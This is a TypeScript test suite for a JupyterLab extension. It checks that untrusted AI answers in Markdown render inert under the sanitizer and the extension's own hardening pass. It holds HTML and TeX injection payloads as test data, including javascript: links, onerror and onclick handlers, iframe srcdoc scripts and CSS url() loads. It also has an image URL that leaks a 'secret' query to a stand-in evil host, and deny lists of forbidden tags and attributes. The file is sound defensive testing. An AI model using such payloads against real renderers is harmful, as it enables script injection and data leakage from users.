// The renderer of outputs that carry the answer mark, fed the hostile answers of
// tests/safety_cases.json RAW: a notebook from elsewhere may carry the mark with Markdown that never
// went through the safe rewrite, so JupyterLab's sanitizer and render.ts's DOM pass alone must hold.
// The parser is marked as JupyterLab's markedparser-extension sets it up; the sanitizer is
// JupyterLab's own.
import { document } from './dom';

import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { Marked } from 'marked';
import { gfmHeadingId } from 'marked-gfm-heading-id';
import { mangle } from 'marked-mangle';

import { LiveMarkdown } from '../src/livemd';
import { BlockRenderer, harden, mathStyle, renderAnswer, setImageOrigins } from '../src/render';
import { safeMarkdown } from '../src/safemd';

interface ICase {
  name: string;
  answer: string;
  expected: string;
  deltas?: string[];
  image_origins?: string[];
}

const table = JSON.parse(
  readFileSync(join(__dirname, '..', '..', '..', 'tests', 'safety_cases.json'), 'utf-8')
) as { cases: ICase[] };

// As @jupyterlab/markedparser-extension: its two plugins, then `{ async: true, gfm: true }`.
const marked = new Marked(gfmHeadingId(), mangle());
const markdownParser: IRenderMime.IMarkdownParser = {
  render: async (source: string) => marked.parse(source, { async: true, gfm: true })
};

function options(typeset?: (host: HTMLElement) => void): IRenderMime.IRendererOptions {
  const latexTypesetter = typeset && { typeset: async (host: HTMLElement) => typeset(host), load: async () => {} };
  return { sanitizer: new Sanitizer(), markdownParser, latexTypesetter } as unknown as IRenderMime.IRendererOptions;
}

/** Elements that load, run, submit or restyle: none may survive. */
const FORBIDDEN = [
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'link', 'meta', 'base',
  'form', 'input', 'button', 'select', 'textarea', 'svg', 'math', 'video', 'audio', 'source', 'track',
  'picture', 'portal', 'canvas', 'noscript', 'template'
];
/** Attributes that load, run, navigate or restyle (`src` and `href` are checked apart). */
const FORBIDDEN_ATTRIBUTES = [
  'style', 'srcset', 'srcdoc', 'poster', 'background', 'action', 'formaction', 'ping', 'data', 'usemap',
  'lowsrc', 'dynsrc', 'xlink:href', 'data-commandlinker-command', 'data-commandlinker-args'
];

/** Every rule of "Answers are untrusted content" that the rendered DOM can show. */
function assertInert(root: Element, origins: readonly string[], where: string): void {
  const html = root.innerHTML;
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    const at = `${where}: <${tag}> in ${html}`;
    assert.ok(!FORBIDDEN.includes(tag), at);
    for (const { name } of Array.from(element.attributes)) {
      assert.ok(!name.startsWith('on'), `${at}: ${name}`);
      assert.ok(!FORBIDDEN_ATTRIBUTES.includes(name), `${at}: ${name}`);
    }
    if (tag === 'img') {
      const src = element.getAttribute('src') ?? '';
      assert.ok(origins.some(origin => src.startsWith(origin + '/')), `${at}: an image from elsewhere`);
      assert.equal(element.getAttribute('referrerpolicy'), 'no-referrer', at);
    } else {
      assert.ok(!element.hasAttribute('src'), `${at}: src`);
    }
    if (element.hasAttribute('href')) {
      assert.equal(tag, 'a', `${at}: a link that is not an <a>`);
      assert.match(element.getAttribute('href') ?? '', /^(https?:|mailto:)/i, at);
      assert.equal(element.getAttribute('target'), '_blank', at);
      assert.equal(element.getAttribute('rel'), 'noopener noreferrer', at);
    }
  }
}

for (const c of table.cases) {
  test(`raw answer, rendered whole: ${c.name}`, async () => {
    setImageOrigins(c.image_origins ?? []);
    const host = document.createElement('div');

    await renderAnswer(host, c.answer, options());

    assertInert(host, c.image_origins ?? [], c.name);
    setImageOrigins([]);
  });

  test(`raw answer, rendered live block by block: ${c.name}`, async () => {
    setImageOrigins(c.image_origins ?? []);
    const host = document.createElement('div');
    const live = new BlockRenderer(host, options());
    const deltas = c.deltas ?? [c.answer.slice(0, c.answer.length >> 1), c.answer.slice(c.answer.length >> 1)];

    for (let i = 1; i <= deltas.length; i++) {
      await live.render(deltas.slice(0, i).join(''));
      assertInert(host, c.image_origins ?? [], `${c.name}, after ${i} delta(s)`);
    }
    setImageOrigins([]);
  });
}

/**
 * The live view as mime.ts drives it: each delta appended to a LiveMarkdown, its blocks rendered by
 * a BlockRenderer; inert after every delta. Returns the host, as the last delta left it.
 */
async function liveView(deltas: string[], origins: readonly string[], minChunk?: number): Promise<HTMLElement> {
  const host = document.createElement('div');
  const blocks = new BlockRenderer(host, options());
  const markdown = new LiveMarkdown(origins, minChunk);
  for (const [i, delta] of deltas.entries()) {
    markdown.append(delta);
    await blocks.renderBlocks(() => markdown.blocks());
    assertInert(host, origins, `after ${i + 1} delta(s)`);
  }
  return host;
}

/** The whole answer's safe Markdown rendered at once, as the stored answer is. */
async function wholeView(markdown: string): Promise<HTMLElement> {
  const host = document.createElement('div');
  await new BlockRenderer(host, options()).render(markdown);
  return host;
}

const pieces = (text: string, size: number) => text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];

for (const c of table.cases) {
  test(`safe answer, live delta by delta, shows what the whole answer shows: ${c.name}`, async () => {
    setImageOrigins(c.image_origins ?? []);
    const whole = await wholeView(c.expected);
    for (const deltas of [c.deltas ?? pieces(c.answer, 13), pieces(c.answer, 1)]) {
      const live = await liveView(deltas, c.image_origins ?? []);
      assert.equal(live.innerHTML, whole.innerHTML, `${deltas.length} deltas`);
    }
    setImageOrigins([]);
  });
}

test('a long answer, cut into finished chunks as it streams, shows what the whole answer shows', async () => {
  // Every case of the table one after the other, three times: several times the live view's chunk size
  const answer = Array(3).fill(table.cases.map(c => c.answer).join('\n\n')).join('\n\n');
  assert.ok(answer.length > 3 * 2000);
  const live = await liveView(pieces(answer, 13), []);
  const whole = await wholeView(safeMarkdown(answer));
  assert.ok(live.children.length > 40); // many blocks (the host's own children: no wrapper)
  assert.equal(live.innerHTML, whole.innerHTML);
});

test('images become links the user may follow, and only the allowed origin loads', async () => {
  setImageOrigins(['https://images.example.org']);
  const host = document.createElement('div');

  await renderAnswer(
    host,
    '![chart](https://images.example.org/a.png) ![leak](https://evil.example/x.png?q=secret)',
    options()
  );

  assert.deepEqual(
    Array.from(host.querySelectorAll('img')).map(img => img.getAttribute('src')),
    ['https://images.example.org/a.png']
  );
  const blocked = host.querySelector('a.jp-cellmage-BlockedImage');
  assert.equal(blocked?.textContent, '\u{1F5BC} leak');
  assert.equal(blocked?.getAttribute('href'), 'https://evil.example/x.png?q=secret');
  setImageOrigins([]);
});

test('what the math typesetter adds is hardened too', async () => {
  const host = document.createElement('div');
  // A typesetter (MathJax in JupyterLab) makes new elements after the sanitizer has run.
  const typeset = (node: HTMLElement) => {
    node.insertAdjacentHTML(
      'beforeend',
      '<a href="javascript:alert(1)">x</a><img src="https://evil.example/t.png"><span onclick="alert(1)">y</span>'
    );
  };

  await renderAnswer(host, '$x^2$', options(typeset));

  assertInert(host, [], 'after typesetting');
});

test('harden() alone makes a hostile fragment inert, with no sanitizer before it', () => {
  const template = document.createElement('template');
  template.innerHTML =
    '<a href=" JaVaScRiPt:alert(1)">a</a><a href="https://example.org" target="_self" rel="opener">b</a>' +
    '<img src="https://evil.example/x.png" onerror="alert(1)" alt="x"><div style="background:url(https://evil.example/)">' +
    '<form action="https://evil.example/"><button formaction="https://evil.example/">go</button></form></div>' +
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><svg><a href="javascript:alert(1)">s</a></svg>' +
    '<button data-commandlinker-command="terminal:create-new">open</button><object data="x"></object>';

  harden(template.content);

  const host = document.createElement('div');
  host.append(template.content);
  assertInert(host, [], 'harden alone');
  assert.match(host.textContent ?? '', /go/); // a form's content shows, as text
});

/** What MathJax 3's CHTML output makes of `$n^2$`: its own elements, laid out by inline styles
 * (the superscript raised, the math scaled to the text), and MathML for screen readers. */
const CHTML =
  '<mjx-container class="MathJax" jax="CHTML" style="font-size: 129.3%; position: relative;">' +
  '<mjx-math class="MJX-TEX" aria-hidden="true"><mjx-msup><mjx-mi class="mjx-i"><mjx-c class="mjx-c1D45B TEX-I"></mjx-c></mjx-mi>' +
  '<mjx-script style="vertical-align: 0.363em;"><mjx-mn class="mjx-n" size="s"><mjx-c class="mjx-c32"></mjx-c></mjx-mn></mjx-script>' +
  '</mjx-msup></mjx-math><mjx-assistive-mml unselectable="on" display="inline"><math xmlns="http://www.w3.org/1998/Math/MathML">' +
  '<msup><mi>n</mi><mn data-mjx-texclass="ORD">2</mn></msup></math></mjx-assistive-mml></mjx-container>';

/** A typesetter that, like MathJax, replaces each `$...$` in the text it reads by `output`, and
 * records the TeX it read. */
function mathJax(seen: string[], output = CHTML): (host: HTMLElement) => void {
  return (host: HTMLElement) => {
    const walker = document.createTreeWalker(host, 4);
    const texts: Text[] = [];
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      texts.push(n as Text);
    }
    for (const text of texts) {
      const template = document.createElement('template');
      template.innerHTML = text.data.replace(/\$([^$]+)\$/g, (_, tex: string) => {
        seen.push(tex);
        return output;
      }).replace(/^([^<]*)/, m => m.replace(/&/g, '&amp;'));
      if (seen.length) {
        text.replaceWith(template.content);
      }
    }
  };
}

test('math keeps the layout MathJax gives it: a raised superscript, math scaled to the text', async () => {
  const host = document.createElement('div');

  await renderAnswer(host, 'Cost $n^2$ here.', options(mathJax([])));

  assert.equal(host.querySelector('mjx-container')?.getAttribute('style'), 'font-size: 129.3%; position: relative');
  assert.equal(host.querySelector('mjx-script')?.getAttribute('style'), 'vertical-align: 0.363em');
  // The MathML screen readers read stays, with MathJax's own attributes
  assert.equal(host.querySelector('mjx-assistive-mml math msup mn')?.getAttribute('data-mjx-texclass'), 'ORD');
});

test('after typesetting, only layout survives in a style, and only on what MathJax made', async () => {
  const host = document.createElement('div');
  const hostile =
    '<mjx-container style="position: fixed; top: 0; background: url(https://evil.example/x.png); color: red">' +
    '<mjx-mi style="background-image: image-set(\'https://evil.example/y.png\' 1x); width: 2em !important; margin-left: 1px">x</mjx-mi>' +
    '<mjx-assistive-mml><math><mi href="javascript:alert(1)" style="color: red" onclick="alert(1)">x</mi></math></mjx-assistive-mml>' +
    '</mjx-container><span style="color: red">not math</span><math><mi>outside</mi></math>';

  await renderAnswer(host, 'a $x$ b', options(mathJax([], hostile)));

  assert.equal(host.querySelector('mjx-container')?.getAttribute('style'), 'top: 0; color: red');
  assert.equal(host.querySelector('mjx-mi')?.getAttribute('style'), 'margin-left: 1px');
  const mi = host.querySelector('mjx-assistive-mml mi')!;
  assert.deepEqual(Array.from(mi.attributes).map(a => a.name), []);
  assert.equal(host.querySelector('span')?.hasAttribute('style'), false);
  assert.equal(host.querySelectorAll('math').length, 1); // MathML outside MathJax's assistive copy is removed
});

test('TeX that would link, load or restyle is broken before MathJax reads it, in raw Markdown too', async () => {
  const seen: string[] = [];
  const host = document.createElement('div');

  await renderAnswer(host, 'A $\\href{https://evil.example}{x}$ B $\\style{color:red}{y}$ C $\\require{html}$ D $\\def\\a{b}$ E $\\frac{1}{2}$', options(mathJax(seen)));

  assert.deepEqual(seen, ['\\\u200bhref{https://evil.example}{x}', '\\\u200bstyle{color:red}{y}', '\\\u200brequire{html}', '\\\u200bdef\\a{b}', '\\frac{1}{2}']);
});

test("MathJax's own elements in an answer are removed before typesetting", () => {
  const template = document.createElement('template');
  template.innerHTML = '<p>a<mjx-container style="position: fixed; inset: 0">cover</mjx-container><mjx-assistive-mml><math><mi>x</mi></math></mjx-assistive-mml></p>';

  harden(template.content);

  const host = document.createElement('div');
  host.append(template.content);
  assert.equal(host.innerHTML, '<p>a</p>');
});

test("a math style keeps layout properties with plain values, nothing else", () => {
  assert.equal(mathStyle('vertical-align: -0.15em; font-size: 70.7%;'), 'vertical-align: -0.15em; font-size: 70.7%');
  assert.equal(mathStyle('position: absolute; left: 0'), 'left: 0');
  assert.equal(mathStyle('color: var(--x); border: 1px solid red'), 'border: 1px solid red');
  assert.equal(mathStyle('width: calc(100vw); height: expression(alert(1)); margin: 0\\'), 'width: calc(100vw)');
  assert.equal(mathStyle('behavior: url(x.htc); -moz-binding: url(x)'), '');
});

test("an answer's blocks are its host's own children, as in a Markdown cell, and kept while it grows", async () => {
  const host = document.createElement('div');
  const live = new BlockRenderer(host, options());

  await live.render('# T\n\npara\n\n```py\nx = 1\n```\n\naft');
  const code = host.querySelector('pre');
  await live.render('# T\n\npara\n\n```py\nx = 1\n```\n\nafter all');

  assert.deepEqual(Array.from(host.children).map(e => e.localName), ['h1', 'p', 'pre', 'p']);
  assert.equal(host.querySelector('pre'), code); // the code block was not rendered again
  assert.equal(host.lastElementChild?.textContent, 'after all');
});
